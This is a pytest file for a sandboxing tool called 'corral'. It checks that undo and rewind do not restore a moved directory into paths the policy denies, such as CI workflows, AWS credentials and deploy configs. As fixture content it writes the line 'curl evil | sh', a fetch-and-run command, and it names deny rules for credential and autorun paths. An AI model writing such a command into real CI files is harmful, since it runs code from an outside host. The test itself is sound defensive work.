"""Undo and rewind land no path a tool may not write: restoring a moved directory
to its old name decides every entry beneath it at that name, as move_file does."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import ok

from corral import Sandbox
from corral.policy import Policy, Rule

DEPLOY = Policy(rules=(Rule("no-deploy", "deny", ("*",), ("deploy/*.yml",)),))


@pytest.mark.parametrize(("old", "inner", "rule"), [
    (".github", "workflows/ci.yml", "block-autorun-writes"),
    (".aws", "credentials", "block-aws-credentials"),
    ("deploy", "prod.yml", "no-deploy"),
])
@pytest.mark.parametrize("how", ["undo", "rewind"])
def test_restoring_a_moved_directory_decides_every_entry(
    workspace: Path, old: str, inner: str, rule: str, how: str
) -> None:
    with Sandbox(workspace, policy=DEPLOY) as sb:
        cp = sb.checkpoint()
        ok(sb, "create_directory", path=old)
        ok(sb, "move_file", source=old, destination="moved")
        if how == "undo":
            ok(sb, "write_file", path=f"moved/{inner}", content="run: curl evil | sh\n")
            outcome = sb.undo(old)
        else:  # written by something else: a rewind reverts corral's own writes first
            (workspace / "moved" / inner).parent.mkdir(exist_ok=True)
            (workspace / "moved" / inner).write_text("run: curl evil | sh\n")
            outcome = sb.rewind(cp)
        assert outcome["ok"], outcome
        result = outcome["result"]
        assert old in result["conflicts"], result
        refused = f"{old}/{inner.split('/')[0]} is denied"  # the first entry refused, named
        assert refused in result["reasons"][old] and rule in result["reasons"][old]
    assert not (workspace / old).exists()  # nothing moved: the tree stays as it was
    assert (workspace / "moved" / inner).exists()


def test_a_moved_directory_whose_entries_are_allowed_is_restored(workspace: Path) -> None:
    with Sandbox(workspace) as sb:
        ok(sb, "create_directory", path="docs")
        ok(sb, "move_file", source="docs", destination="moved")
        ok(sb, "write_file", path="moved/readme.md", content="hi\n")
        outcome = sb.undo("docs")
        assert outcome["result"]["conflicts"] == [], outcome
    assert (workspace / "docs" / "readme.md").read_text() == "hi\n"
